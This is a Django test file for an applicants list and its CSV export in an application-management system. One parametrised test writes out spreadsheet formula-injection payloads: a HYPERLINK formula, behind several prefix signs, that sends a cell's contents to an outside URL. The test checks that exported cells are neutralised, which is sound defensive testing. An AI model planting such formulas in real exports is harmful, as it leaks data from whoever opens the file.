"""Who applied: the filtered table, and a file that no spreadsheet runs."""

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from tests.journeys import steps
from tests.web.office.conftest import START, after_deadline, after_draw, apply, publish

from pariter.apps.applications.actions import save_draft, withdraw_application
from pariter.apps.applications.models import Application
from pariter.apps.people.models import Person
from pariter.apps.programmes.models import Call
from pariter.web.cells import safe_cell

Visit = Callable[..., Any]


def address(call: Call, query: str = "") -> str:
    return f"/en/office/call/{call.pk}/applicants/{query}"


def names(answer: Any) -> list[str]:
    return [row["application"].person.name for row in answer.context["rows"]]


def table(answer: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_applicants_are_listed_in_pages(athens: Call, keeper: Person, visit: Visit) -> None:
    apply(athens, 53)
    with visit(keeper, after_deadline(athens)) as client:
        first, second = client.get(address(athens)), client.get(address(athens, "?page=2"))
    assert (len(names(first)), len(names(second))) == (50, 3)
    assert sorted(names(first) + names(second)) == sorted(f"Person {n}" for n in range(53))


def test_applicants_are_filtered(athens: Call, keeper: Person, visit: Visit) -> None:
    people = apply(athens, 9)
    gone = Application.objects.get(call=athens, person=people[4])
    at = athens.opens_at + timedelta(days=2)
    withdraw_application(application=gone, at=at, by=people[4])
    with visit(keeper, at) as client:
        assert names(client.get(address(athens, "?state=withdrawn"))) == ["Person 4"]
        assert names(client.get(address(athens, "?words=son+7"))) == ["Person 7"]
        assert names(client.get(address(athens, "?home=polimi"))) == ["Person 0", "Person 8"]
        assert names(client.get(address(athens, "?state=nonsense"))) != []
        empty = client.get(address(athens, "?words=nobody"))
    assert names(empty) == []
    assert "No application matches." in empty.content.decode()


def test_applicants_show_placements(athens: Call, keeper: Person, visit: Visit) -> None:
    apply(athens, 3)
    publish(athens)
    with visit(keeper, after_draw(athens)) as client:
        answer = client.get(address(athens, "?place=offered"))
        assert client.get(address(athens, "?place=accepted")).context["rows"] == []
    offers = [str(offer.title) for offer in athens.offers.all()[:3]]
    shown = [
        [(str(place.offer.title), tag.text) for place, tag in row["places"]]
        for row in answer.context["rows"]
    ]
    assert shown == [[(title, "Offered")] for title in offers]


def test_drafts_are_counted_but_not_shown(athens: Call, keeper: Person, visit: Visit) -> None:
    at = athens.opens_at + timedelta(days=2)
    apply(athens, 1)
    shy = steps.register("shy@example.org", at, name="Shy Person")
    save_draft(call=athens, person=shy, content={"name": "Unsent secret"}, at=at)
    with visit(keeper, at) as client:
        page = client.get(address(athens)).content.decode()
        file = client.get(address(athens, "applicants.csv")).content.decode()
    assert "1 more is not sent yet" in page
    for text in ("Shy Person", "shy@example.org", "Unsent secret"):
        assert text not in page
        assert text not in file


def test_file_holds_what_the_filter_lets_through(
    athens: Call, keeper: Person, visit: Visit
) -> None:
    apply(athens, 9)
    with visit(keeper, after_deadline(athens)) as client:
        answer = client.get(address(athens, "applicants.csv?home=polimi"))
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    head, *rows = table(answer)
    assert head[:3] == ["Reference", "Name", "E-mail address"]
    assert [row[1:3] for row in rows] == [
        ["Person 0", "p0@example.org"],
        ["Person 8", "p8@example.org"],
    ]
    sent = Application.objects.get(reference=rows[0][0]).submitted_at
    assert sent
    assert rows[0][5] == f"{timezone.localtime(sent):%Y-%m-%d %H:%M}" != f"{sent:%Y-%m-%d %H:%M}"
    offers = [str(offer.title) for offer in athens.offers.all()[:3]]
    assert rows[0][6] == "; ".join(f"{n}. {title}" for n, title in enumerate(offers, start=1))


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", " =", "\ufeff=", "＝"])
def test_file_holds_no_formula(athens: Call, keeper: Person, visit: Visit, sign: str) -> None:
    [person] = apply(athens, 1)
    attack = f'{sign}HYPERLINK("https://example.org/?"&A1)'
    Person.objects.filter(pk=person.pk).update(name=attack)
    with visit(keeper, after_deadline(athens)) as client:
        answer = client.get(address(athens, "applicants.csv"))
    name = next(
        csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="").readlines()[1:])
    )
    assert safe_cell(attack) == f"'{attack}"
    assert name[1].startswith("'")


def test_harmless_cells_stay_as_they_are() -> None:
    for value in ("", "Ada Prova", "3. Course", "2027-03-01 10:00", "O'Hara", "a=b"):
        assert safe_cell(value) == value


def test_applicants_ask_as_often_for_forty(
    athens: Call, keeper: Person, visit: Visit, queries: Callable[[Client, str], int]
) -> None:
    apply(athens, 1)
    paths = (address(athens), address(athens, "applicants.csv"))
    with visit(keeper, athens.opens_at + timedelta(days=3)) as client:
        before = [queries(client, path) for path in paths]
        apply(athens, 39, first=1)
        assert len(client.get(paths[0]).context["rows"]) == 40
        assert [queries(client, path) for path in paths] == before


def test_empty_call_says_so(athens: Call, keeper: Person, visit: Visit) -> None:
    with visit(keeper, START) as client:
        assert "Nobody has applied yet." in client.get(address(athens)).content.decode()
